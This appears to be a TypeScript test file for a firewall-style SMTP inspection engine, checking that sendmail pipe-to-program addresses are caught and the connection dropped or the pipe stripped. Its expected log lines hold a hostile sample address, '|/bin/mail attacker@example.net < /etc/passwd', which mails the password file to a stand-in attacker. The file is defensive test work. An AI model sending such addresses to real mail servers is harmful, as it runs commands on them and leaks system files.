/**
 * pipe-signature=leading on the other forms of a pipe-to-program address: sendmail takes an address
 * as a program when it begins with '|' once quotation marks are stripped ("|prg args", sendmail 4th
 * ed. 12.2.3 / 11.12.3: the 8lgm-era exploit shape), and a source route (RFC 5321 4.1.2 `@a:`)
 * comes before the mailbox. Real sessions against the npm smtp-server (fixtures/make-pipe-program.cjs).
 */
import { describe, expect, it } from 'vitest';
import { fileURLToPath } from 'node:url';
import { captureSegments, defaultMap, latin1, opts, run } from './helpers.js';

const fixture = (name: string): string => fileURLToPath(new URL(`./fixtures/${name}`, import.meta.url));
const QUOTED = fixture('pipe-program-quoted.pcap');
const ROUTE = fixture('pipe-program-route.pcap');
const CLIENT = 'outside:198.51.100.7/40003';
const SERVER = 'inside:192.0.2.25/25';

describe('pipe-to-program addresses (pipe-signature=leading, the default)', () => {
  it('a quoted local part starting with | closes the session with 108003 at the MAIL packet', async () => {
    const r = run(defaultMap(), await captureSegments(QUOTED));
    expect(r.session.state).toBe('dropped');
    const v = r.verdicts.filter((x) => x.rule === 'pipe-signature');
    expect(v).toHaveLength(1);
    expect(v[0]!.action).toBe('drop-connection');
    expect(v[0]!.detail).toBe("'|' starting the MAIL address after its opening quote (pipe-signature=leading)");
    expect(latin1(r.input[0]).slice(v[0]!.offset - 12, v[0]!.offset + 10)).toBe('MAIL FROM:<"|/bin/mail');
    expect(v[0]!.syslog[0]).toBe(
      `%ASA-2-108003: Terminating ESMTP connection; malicious pattern detected in the mail address from ${CLIENT} to ${SERVER}.` +
        ' Mail Address:"|/bin/mail attacker@example.net < /etc/passwd"@example.test',
    );
    expect(r.session.dropOffset).toBe(v[0]!.offset);
    // the pipe is not rewritten (the packet is dropped), and nothing was replaced before it
    expect(r.verdicts.filter((x) => x.rule === 'pipe-in-address')).toEqual([]);
  });

  it('a mailbox starting with | after a source route closes the session; a | inside a quoted local part is replaced', async () => {
    const r = run(defaultMap(), await captureSegments(ROUTE));
    const replaced = r.verdicts.filter((x) => x.rule === 'pipe-in-address');
    expect(replaced).toHaveLength(1);
    expect(replaced[0]!.syslog).toEqual([`%ASA-2-108002: SMTP replaced string: out 198.51.100.7 in 192.0.2.25 data: "bob carol"@example.test`]);
    expect(latin1(r.out[0])).toContain('RCPT TO:<"bob carol"@example.test>\r\n');
    const v = r.verdicts.filter((x) => x.rule === 'pipe-signature');
    expect(v).toHaveLength(1);
    expect(v[0]!.detail).toBe("'|' starting the RCPT mailbox after its source route (pipe-signature=leading)");
    expect(v[0]!.syslog[0]).toContain('Mail Address:@relay.example.test:|/usr/bin/prog@example.test');
    expect(r.session.state).toBe('dropped');
  });

  it('pipe-signature=none still only replaces them (108002), the session goes on', async () => {
    for (const f of [QUOTED, ROUTE]) {
      const r = run(defaultMap(), await captureSegments(f), opts({ pipeSignature: 'none' }));
      expect(r.session.state).toBe('inspecting');
      expect(r.verdicts.filter((x) => x.rule === 'pipe-signature')).toEqual([]);
      expect(latin1(r.out[0])).not.toContain('|');
    }
  });
});
